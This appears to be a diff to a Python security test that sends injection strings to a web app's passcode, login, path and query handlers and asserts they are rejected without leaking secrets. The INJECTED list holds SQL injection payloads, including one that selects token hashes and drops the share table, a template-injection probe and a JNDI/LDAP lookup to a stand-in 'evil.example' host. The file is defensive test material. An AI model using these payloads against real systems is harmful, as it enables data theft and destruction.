@@ -20,13 +20,11 @@ from core.shares import Section, ShareState, Terms
 from core.store.shares import get_share, list_shares
 from tests.attack.planted import OTHER, OWN, Words
 from tests.attack.test_links import OURS, SECRET, THEIRS
+from tests.attack.test_routes import ELSEWHERE
 
 INJECTED = (
     "' or 1=1 --",
-    "x' union select token_hash from share --",
-    '"; drop table share; --',
-    "%27%20or%20%271%27=%271",
-    "1) or (1=1",
+    "x' union select token_hash from share; drop table share --",
     "\x00",
     "{{7*7}}",
     "${jndi:ldap://evil.example}",
@@ -41,11 +39,11 @@ def test_words_of_a_visitor_are_never_a_question_to_the_database(server: Any, li
     with server.talk(cookie=open_one.cookie) as talk:
         for text in INJECTED:
             assert server.post(unlock, {"passcode": text}, cookie=held.cookie).status == 401
-            assert server.post("/login", {"email": text, "password": text}).status in (401, 429)
+            assert server.post("/login", {"email": text, "password": text}, x_forwarded_for=ELSEWHERE).status == 401
             quoted = "".join(f"%{byte:02x}" for byte in text.encode())
             for path in (f"/s/{quoted}", f"/s/export/{quoted}"):
                 assert server.ask("GET", path, cookie=open_one.cookie).status in (400, 404)
-            for query in (f"v={quoted}", f"{own}&days={quoted}", f"{own}&client={quoted}", f"{own}&preview={quoted}"):
+            for query in (f"v={quoted}", f"{own}&days={quoted}&client={quoted}&preview={quoted}&lang={quoted}"):
                 assert SECRET not in talk.rerun(page="client", query=query)
         assert "Oma Asiakas" in talk.rerun(page="client", query=own)
     assert [len(list_shares(server.store.ops, client_id=client)) for client in (OURS, THEIRS)] == before
